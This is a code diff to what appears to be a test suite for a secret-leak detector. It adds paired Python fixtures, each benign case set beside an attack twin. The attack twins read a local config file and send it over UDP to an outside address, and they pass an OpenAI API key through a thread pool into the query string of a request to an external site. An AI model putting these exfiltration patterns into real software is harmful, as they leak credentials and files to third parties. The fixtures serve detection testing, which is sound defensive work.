@@ -42,6 +42,38 @@ main()
 `,
   );
 
+const told = (host: string): string =>
+  `import json, os, socket
+notes = open(os.path.expanduser("~/.beacons/config.json")).read()
+line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+line.sendto(notes.encode(), ("${host}", 5005))
+`;
+
+/** A service is asked with its key by a function that somebody else calls, and what comes of that is looked for at another. */
+const threads = (given: string): Files =>
+  script(
+    'boards',
+    'look.py',
+    `import json, os, urllib.request
+from concurrent.futures import ThreadPoolExecutor
+
+def ask(topics, config):
+    request = urllib.request.Request("https://api.openai.com/v1/responses", headers={"Authorization": "Bearer " + config["key"]})
+    with urllib.request.urlopen(request) as answer:
+        found = json.loads(answer.read())
+    return ${given}
+
+def main():
+    config = {"key": os.environ["OPENAI_API_KEY"]}
+    with ThreadPoolExecutor() as pool:
+        future = pool.submit(ask, ["one", "two"], config)
+    board = future.result()
+    urllib.request.urlopen(f"https://boards.talk-place.io/search?q={board}")
+
+main()
+`,
+  );
+
 /** What is sent in the ordinary way, each beside the attack that it must not be mistaken for. */
 const TWINS: readonly (readonly [string, Files, Files])[] = [
   [
@@ -61,6 +93,16 @@ const TWINS: readonly (readonly [string, Files, Files])[] = [
     'an object beside one that keeps a key, and one that holds that other',
     identity('version: str', '"2"'),
     identity('keeper: Keeper', 'keeper'),
+  ],
+  [
+    'what a service answered to a thread, and the key that it was asked with',
+    threads('found'),
+    threads('config["key"]'),
+  ],
+  [
+    'a call to all in the own network, and one to a machine of somebody',
+    script('beacons', 'call.py', told('255.255.255.255')),
+    script('beacons', 'call.py', told('198.51.100.7')),
   ],
 ];
 
